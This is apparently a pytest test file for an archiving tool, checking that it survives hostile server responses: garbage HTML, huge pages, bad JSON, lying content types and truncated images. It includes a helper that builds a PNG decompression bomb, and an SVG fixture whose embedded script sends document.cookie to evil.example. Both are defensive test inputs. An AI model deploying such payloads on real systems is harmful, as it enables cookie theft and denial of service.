"""Servers that answer, but with something hostile or wrong: the run goes on and says what it got."""

from __future__ import annotations

import hashlib
import struct
import time
import zlib

import numpy as np
from factories import jpeg_bytes, png_bytes
from faults import post_url, query, serve_photo_post
from recorded import SYNDICATION, serve_syndication

OEMBED = "https://publish.twitter.com/oembed"


def media_of(settings, post_id: str) -> dict:
    rows = query(
        settings,
        "select m.sha256, m.mime, m.phash, m.thumbnail_path, m.analysis_error, pm.error"
        " from post_media pm join media m on m.sha256 = pm.sha256 where pm.post_id = ?",
        [f"x:{post_id}"],
    )
    assert len(rows) == 1
    names = ["sha256", "mime", "phash", "thumbnail", "analysis_error", "note"]
    return dict(zip(names, rows[0], strict=True))


def test_garbage_served_as_html_is_kept_as_a_page_without_embeds(replay, settings, archive_cli):
    garbage = np.random.default_rng(1).integers(0, 256, 200_000, dtype=np.uint8).tobytes()
    replay.add("https://news.example/garbage", garbage, content_type="text/html")
    nested = "<div>" * 50_000 + "<blockquote class='twitter-tweet'>" + "</div>" * 50_000
    replay.add("https://news.example/nested", nested, content_type="text/html")

    run = archive_cli("--json", "https://news.example/garbage", "https://news.example/nested")

    assert run.status == 0, run.out + run.err
    lines = sorted(run.json_lines(), key=lambda r: r["url"])
    assert (lines[0]["status"], lines[0]["embeds"]) == ("ok", [])
    # 50,000 unclosed divs around an embed's markup: the parser survives and still finds it.
    assert lines[1]["status"] == "partial"
    assert [(e["found_by"], e["status"]) for e in lines[1]["embeds"]] == [
        ("blockquote", "unresolved")
    ]
    # The bytes are kept exactly as served.
    assert query(settings, "select html_sha256 from pages join captures c on c.id = capture_id"
                 " where c.url = 'https://news.example/garbage'") == [
        (hashlib.sha256(garbage).hexdigest(),)
    ]  # fmt: skip


def test_an_enormous_page_is_kept_but_not_parsed(replay, settings, archive_cli, earlier):
    paragraph = b"<p>An enormous page, paragraph after paragraph. <a href='/x'>a link</a></p>\n"
    body = b"<html><body>" + paragraph * (50_000_000 // len(paragraph)) + b"</body></html>"
    replay.add("https://news.example/huge", body, content_type="text/html")
    cpu = time.process_time()  # CPU seconds: a busy machine stretches wall time, not these

    run = archive_cli("https://news.example/huge")

    assert time.process_time() - cpu < 30  # parsing all of it would take a minute and 1.7 GB
    assert run.status == 0, run.out
    assert run.out.startswith("partial  https://news.example/huge")
    assert f"note: the page is {len(body):,} bytes; embedded posts and metadata are only read" in (
        run.out
    )
    assert query(settings, "select html_sha256 from pages") == [(hashlib.sha256(body).hexdigest(),)]
    earlier.assert_intact()


def test_invalid_json_from_every_endpoint_fails_that_post(replay, settings, archive_cli, earlier):
    serve_syndication(replay, "1500000000000000010", b'{"id_str": "150000000000000')
    replay.add(OEMBED, b"<html>not json</html>", content_type="application/json")

    run = archive_cli(post_url("1500000000000000010"))

    assert run.status == 1
    assert "X gave no usable answer for post 1500000000000000010" in run.out
    assert query(settings, "select count(*) from posts where id = 'x:1500000000000000010'") == [
        (0,)
    ]
    assert query(
        settings, "select status from captures where post_db_id = 'x:1500000000000000010'"
    ) == [("error",)]
    earlier.assert_intact()


def test_wrong_content_types_do_not_matter_the_bytes_do(replay, settings, archive_cli):
    from faults import photo_post

    photo = jpeg_bytes(seed=11)
    serve_photo_post(replay, "1500000000000000011", photo, content_type="text/plain")
    replay.add(
        f"{SYNDICATION}?id=1500000000000000011",
        photo_post("1500000000000000011", "R1500000000000000011"),
        content_type="text/html",
    )

    run = archive_cli(post_url("1500000000000000011"))

    assert run.status == 0 and run.out.startswith("ok "), run.out
    media = media_of(settings, "1500000000000000011")
    assert media["mime"] == "image/jpeg" and media["phash"] and media["thumbnail"]
    assert media["sha256"] == hashlib.sha256(photo).hexdigest()


def test_a_file_with_a_lying_extension_is_typed_by_its_bytes(replay, settings, archive_cli):
    png = png_bytes(seed=12)  # served at .../R<id>?format=jpg as image/jpeg
    serve_photo_post(replay, "1500000000000000012", png, content_type="image/jpeg")

    run = archive_cli(post_url("1500000000000000012"))

    assert run.status == 0 and run.out.startswith("ok "), run.out
    media = media_of(settings, "1500000000000000012")
    assert media["mime"] == "image/png" and media["phash"] and media["note"] is None


def test_a_photo_that_is_really_a_web_page_is_kept_with_a_note(replay, settings, archive_cli):
    login = b"<!DOCTYPE html><html><body><form>Log in to see this photo</form></body></html>"
    serve_photo_post(replay, "1500000000000000013", login, content_type="image/jpeg")

    run = archive_cli(post_url("1500000000000000013"))

    assert run.status == 0, run.out
    assert "kept, but it is text/html, not the photo the post lists" in run.out
    media = media_of(settings, "1500000000000000013")
    assert media["mime"] == "text/html" and media["phash"] is None and media["thumbnail"] is None
    assert "text/html" in media["note"]


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares width x height pixels but carries almost no data: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def test_a_decompression_bomb_is_kept_but_not_decoded(replay, settings, archive_cli, earlier):
    bomb = png_header_only(40_000, 40_000)  # 1.6 gigapixels, 4.8 GB decoded
    serve_photo_post(replay, "1500000000000000014", bomb, content_type="image/png")

    run = archive_cli(post_url("1500000000000000014"))

    assert run.status == 0, run.out
    assert "decompression-bomb guard" in run.out
    media = media_of(settings, "1500000000000000014")
    assert media["mime"] == "image/png" and media["phash"] is None and media["thumbnail"] is None
    assert "decompression-bomb guard" in media["analysis_error"]
    assert media["sha256"] == hashlib.sha256(bomb).hexdigest()
    earlier.assert_intact()


def test_a_truncated_jpeg_is_kept_with_its_header_facts(replay, settings, archive_cli):
    whole = jpeg_bytes(seed=15, size=(640, 480))
    serve_photo_post(replay, "1500000000000000015", whole[: len(whole) // 2])

    run = archive_cli(post_url("1500000000000000015"))

    assert run.status == 0, run.out
    assert "image not analysed" in run.out
    media = media_of(settings, "1500000000000000015")
    assert media["mime"] == "image/jpeg" and media["phash"] is None
    assert query(settings, "select width, height from media where sha256 = ?", [media["sha256"]]) == [
        (640, 480)
    ]  # fmt: skip


def test_an_svg_with_script_is_kept_as_bytes_and_never_rendered(replay, settings, archive_cli):
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
        b'<image href="https://evil.example/track.png"/></svg>'
    )
    serve_photo_post(replay, "1500000000000000016", svg, content_type="image/svg+xml")
    before = len(replay.requests)

    run = archive_cli(post_url("1500000000000000016"))

    assert run.status == 0, run.out
    media = media_of(settings, "1500000000000000016")
    assert media["mime"] == "image/svg+xml" and media["thumbnail"] is None
    stored = settings.blobs_dir / "sha256" / media["sha256"][:2] / media["sha256"][2:4]
    assert (stored / media["sha256"]).read_bytes() == svg
    assert "evil.example" not in {r.host for r in replay.requests[before:]}  # nothing it names
